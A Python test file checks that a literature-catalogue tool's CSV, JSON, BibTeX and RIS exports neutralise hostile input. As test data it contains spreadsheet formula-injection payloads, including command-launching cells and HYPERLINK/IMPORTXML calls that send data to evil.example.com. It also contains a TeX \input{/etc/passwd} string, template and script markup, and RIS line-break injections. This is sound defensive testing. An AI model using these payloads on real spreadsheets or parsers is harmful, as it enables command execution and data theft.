"""Hostile text in every export: markup and template syntax stay literal text, CSV cells cannot
run as spreadsheet formulas, BibTeX with TeX specials and unbalanced braces parses in real
parsers back to the same values, RIS keeps every field on its own line."""

from __future__ import annotations

import csv
import io
import json
import re

import bibtexparser
import bibtexparser.middlewares as bib_middlewares
import pybtex.database
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from tests.hostile.support import HOSTILE, record, run_cli

from bufferlit.cite import to_bibtex, to_csl_json, to_ris
from bufferlit.export import CSV_COLUMNS, to_csv, to_json
from bufferlit.model import BufferType, Entry, Paper, Stance, Tagging

SETTINGS = settings(max_examples=80, deadline=None, suppress_health_check=list(HealthCheck))


def norm(text: str) -> str:
    return " ".join(text.split())


# ---------------------------------------------------------------------------------------------
# Hostile records through the real commands


@pytest.fixture
def hostile_papers(make_catalogue):
    """One record whose every text field carries markup, template syntax and a formula."""
    return make_catalogue(
        {
            "evil2024markup.yaml": record(
                id="evil2024markup",
                title=HOSTILE["title"],
                authors=HOSTILE["authors"],
                venue=HOSTILE["venue"],
                notes=HOSTILE["notes"],
                abstract=HOSTILE["abstract"],
            )
        }
    )


def test_markup_stays_literal_in_csl_json(hostile_papers):
    result = run_cli(["cite", "--format", "csl-json", "--papers", str(hostile_papers)])
    assert result.exit_code == 0, result.output
    [item] = json.loads(result.output)
    assert item["title"] == HOSTILE["title"]
    assert item["abstract"] == HOSTILE["abstract"]
    assert item["container-title"] == HOSTILE["venue"]
    names = [
        author.get("literal") or f"{author['family']}, {author['given']}"
        for author in item["author"]
    ]
    assert names == HOSTILE["authors"]
    assert "49" not in result.output  # {{ 7*7 }} was never evaluated


def test_markup_stays_literal_in_the_json_export(hostile_papers):
    result = run_cli(["export", "--format", "json", "--papers", str(hostile_papers)])
    assert result.exit_code == 0, result.output
    [item] = json.loads(result.output)
    for field in ("title", "abstract", "venue", "notes", "authors"):
        assert item[field] == HOSTILE[field], field
    assert "49" not in result.output


def test_markup_stays_literal_in_the_csv_export(hostile_papers):
    result = run_cli(["export", "--format", "csv", "--papers", str(hostile_papers)])
    assert result.exit_code == 0, result.output
    [row] = list(csv.DictReader(io.StringIO(result.output)))
    assert row["title"] == HOSTILE["title"]
    # The venue and the first author start with "=" and "@": neutralised with a quote.
    assert row["venue"] == "'" + HOSTILE["venue"]
    assert row["authors"] == "'" + "; ".join(HOSTILE["authors"])


def test_markup_stays_literal_in_ris(hostile_papers):
    result = run_cli(["cite", "--format", "ris", "--papers", str(hostile_papers)])
    assert result.exit_code == 0, result.output
    lines = result.output.splitlines()
    assert all(re.match(r"^[A-Z][A-Z0-9]  - ", line) or line == "ER  -" for line in lines), lines
    values = {}
    for line in lines:
        values.setdefault(line[:2], []).append(line[6:])
    assert values["TI"] == [norm(HOSTILE["title"])]
    assert values["AB"] == [norm(HOSTILE["abstract"])]
    assert values["T2"] == [norm(HOSTILE["venue"])]
    assert values["AU"] == [norm(author) for author in HOSTILE["authors"]]
    assert len(values["ER"]) == 1


def test_markup_stays_literal_in_bibtex(hostile_papers):
    result = run_cli(["cite", "--format", "bibtex", "--papers", str(hostile_papers)])
    assert result.exit_code == 0, result.output
    fields = decoded_bibtex(result.output)
    assert norm(fields["title"]) == norm(HOSTILE["title"])
    assert norm(fields["booktitle"]) == norm(HOSTILE["venue"])
    pybtex_entry = pybtex.database.parse_string(result.output, "bibtex").entries["evil2024markup"]
    assert len(pybtex_entry.persons["author"]) == len(HOSTILE["authors"])


# ---------------------------------------------------------------------------------------------
# CSV: no cell a spreadsheet would run

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example.com?x="&A1,"click")',
    '=IMPORTXML(CONCAT("http://evil.example.com/?",A1),"//a")',
]


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("field", ["title", "venue", "authors"])
def test_csv_cells_that_would_be_formulas_are_neutralised(make_catalogue, formula, field):
    value: object = [formula, "Doe, Jane"] if field == "authors" else formula
    papers = make_catalogue({"shinn2023reflexion.yaml": record(**{field: value})})
    result = run_cli(["export", "--format", "csv", "--papers", str(papers)])
    assert result.exit_code == 0, result.output
    [row] = list(csv.DictReader(io.StringIO(result.output)))
    expected = "; ".join(value) if isinstance(value, list) else value
    assert row[field] == "'" + expected
    for cell in row.values():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def entry(**fields: object) -> Entry:
    paper = Paper(
        **{"id": "x2020y", "title": "T", "abstract": "A", "added": "2024-01-01", **fields}  # type: ignore[arg-type]
    )
    tagging = Tagging((BufferType.REPLAY,), Stance.USES, ("continual-learning",))
    return Entry(paper, tagging)


# Text the loader accepts: no controls but tab and newline, no surrogates or U+FFFE/U+FFFF.
TEXT_CHARS = st.characters(
    blacklist_categories=("Cs",),
    blacklist_characters=[
        chr(c) for c in [*range(0x00, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20), *range(0x7F, 0xA0)]
    ]
    + ["\ufffe", "\uffff"],
)
SPECIAL = st.sampled_from(
    [
        *"{}%&#_\\$^~@-`'<>,!?\"=+|*[]()\t\n",
        " and ",
        "others",
        "--",
        "``",
        "''",
        "{{",
        "}}",
        "{%",
        "%}",
        "<script>",
        "</script>",
        "\\par",
        "\\'e",
        '{\\"o}',
        "@misc{",
        "\u2028",
        "ü",
        "中",
        "\u00a0",
        "=",
        "@",
    ]
)
TEXT = (
    st.lists(st.one_of(SPECIAL, st.text(TEXT_CHARS, max_size=6)), min_size=1, max_size=10)
    .map(lambda parts: "".join(parts).strip())
    .filter(bool)
)


@SETTINGS
@given(title=TEXT, venue=TEXT, authors=st.lists(TEXT, min_size=1, max_size=3))
def test_no_csv_cell_starts_a_formula_and_every_value_survives(title, venue, authors):
    text = to_csv([entry(title=title, venue=venue, authors=tuple(authors))])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == list(CSV_COLUMNS)
    [row] = rows[1:]
    for cell in row:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    cells = dict(zip(CSV_COLUMNS, row, strict=True))
    for name, value in (("title", title), ("venue", venue), ("authors", "; ".join(authors))):
        shown = cells[name]
        assert shown == value or (shown == "'" + value and value.startswith(("=", "+", "-", "@")))


@SETTINGS
@given(title=TEXT, notes=TEXT, abstract=TEXT)
def test_json_exports_keep_every_value_exactly(title, notes, abstract):
    [item] = json.loads(to_json([entry(title=title, notes=notes, abstract=abstract)]))
    assert (item["title"], item["notes"], item["abstract"]) == (title, notes, abstract)
    [csl] = json.loads(to_csl_json([entry(title=title, abstract=abstract).paper]))
    assert (csl["title"], csl["abstract"]) == (title, abstract)


# ---------------------------------------------------------------------------------------------
# BibTeX: real parsers read back the same values


def decoded_bibtex(text: str) -> dict[str, str]:
    library = bibtexparser.parse_string(
        text, append_middleware=[bib_middlewares.LatexDecodingMiddleware()]
    )
    assert not library.failed_blocks, [block.error for block in library.failed_blocks]
    [bib_entry] = library.entries
    return {key: str(field.value) for key, field in bib_entry.fields_dict.items()}


def raw_bibtex(text: str, *middlewares: object) -> dict[str, object]:
    library = bibtexparser.parse_string(text, append_middleware=list(middlewares))
    assert not library.failed_blocks
    [bib_entry] = library.entries
    return {key: field.value for key, field in bib_entry.fields_dict.items()}


def decoded_name(raw_name: str) -> str:
    """One name as split by bibtexparser, LaTeX-decoded by its own middleware."""
    return decoded_bibtex("@misc{k, author = {" + raw_name + "}}")["author"]


@SETTINGS
@given(
    title=TEXT,
    venue=TEXT,
    authors=st.lists(TEXT, min_size=1, max_size=3),
    kind=st.sampled_from(["NeurIPS", "Journal of Things", ""]),
)
def test_bibtex_round_trips_through_bibtexparser_and_pybtex(title, venue, authors, kind):
    venue = f"{kind} {venue}".strip()
    paper = Paper(
        id="x2020y",
        title=title,
        abstract="a",
        added="2024-01-01",
        authors=tuple(authors),
        venue=venue,
        year=2020,
        doi="10.1234/a_b%c#d{e}",
        url="https://example.org/a_b%20c#frag",
    )
    text = to_bibtex([paper])

    fields = decoded_bibtex(text)
    assert norm(fields["title"]) == norm(title)
    venue_field = {"NeurIPS": "booktitle", "Journal of Things": "journal"}.get(kind)
    if venue_field:
        assert norm(fields[venue_field]) == norm(venue)
    assert fields["year"] == "2020"

    names = raw_bibtex(text, bib_middlewares.SeparateCoAuthors())["author"]
    assert isinstance(names, list) and len(names) == len(authors), (text, names)
    assert [norm(decoded_name(name)) for name in names] == [norm(a) for a in authors], text

    raw = raw_bibtex(text)
    assert raw["doi"] == "10.1234/a_b%c#d%7Be%7D"  # verbatim but for braces
    assert raw["url"] == paper.url

    parsed = pybtex.database.parse_string(text, "bibtex").entries["x2020y"]
    assert len(parsed.persons["author"]) == len(authors)
    assert parsed.fields["title"] == raw["title"]
    if venue_field:
        assert parsed.fields[venue_field] == raw[venue_field]


@pytest.mark.parametrize(
    "title",
    [
        "100% of {x} & #1 _under $5 ^hat ~tilde \\back",
        "unbalanced { brace",
        "unbalanced } brace",
        "}{ reversed",
        "A -- B --- C ``quoted'' ?` !` << >> ,,",
        "Ümlaut Ωmega 中文 Łódź",
        "\\textbf{not a command} \\par \\input{/etc/passwd}",
        "@misc{inner, title={x}}",
        "{{ 7*7 }} {% raw %}",
    ],
)
def test_each_tex_special_reads_back_the_same(title):
    paper = Paper(id="x2020y", title=title, abstract="a", added="2024-01-01", year=2020)
    text = to_bibtex([paper])
    assert decoded_bibtex(text)["title"] == title
    assert pybtex.database.parse_string(text, "bibtex").entries["x2020y"].fields["title"]
    assert "\\input{" not in text and "\\par " not in text  # escaped, never live TeX


@pytest.mark.parametrize(
    ("author", "expected"),
    [
        ("Barnes and Noble", ["Barnes and Noble"]),
        ("others", ["others"]),
        ("A, B, C, D", ["A, B, C, D"]),
        ("_Smith, John", ["_Smith, John"]),
        ("Müller, Jürgen", ["Müller, Jürgen"]),
    ],
)
def test_an_author_stays_one_name(author, expected):
    paper = Paper(
        id="x2020y", title="T", abstract="a", added="2024-01-01", authors=(author, "Doe, Jane")
    )
    text = to_bibtex([paper])
    names = raw_bibtex(text, bib_middlewares.SeparateCoAuthors())["author"]
    assert isinstance(names, list)
    assert [decoded_name(name) for name in names] == [*expected, "Doe, Jane"]
    persons = pybtex.database.parse_string(text, "bibtex").entries["x2020y"].persons["author"]
    assert len(persons) == 2


# ---------------------------------------------------------------------------------------------
# RIS: one field per line, nothing injected through a line break


@SETTINGS
@given(
    title=TEXT,
    abstract=TEXT,
    venue=TEXT,
    authors=st.lists(TEXT, max_size=3),
    injected=st.sampled_from(
        ["\nER  - \nTY  - JOUR\nTI  - injected", "\r\nAU  - Evil", "\u2028DO  - x"]
    ),
)
def test_ris_keeps_each_field_on_one_line(title, abstract, venue, authors, injected):
    paper = Paper(
        id="x2020y",
        title=title + injected,
        abstract=injected + abstract,
        added="2024-01-01",
        venue=venue,
        authors=tuple(author + injected for author in authors),
    )
    lines = to_ris([paper]).split("\n")
    assert lines[-1] == ""
    tags = [line[:2] for line in lines[:-1]]
    assert all(re.match(r"^[A-Z][A-Z0-9]  - ", line) or line == "ER  -" for line in lines[:-1])
    assert tags.count("TY") == 1 and tags.count("ER") == 1 and tags[-1] == "ER"
    assert tags.count("TI") == 1 and tags.count("AU") == len(authors)
    values = {line[:2]: line[6:] for line in lines[:-1]}
    assert values["TI"] == norm(title + injected)
    assert values["AB"] == norm(injected + abstract)
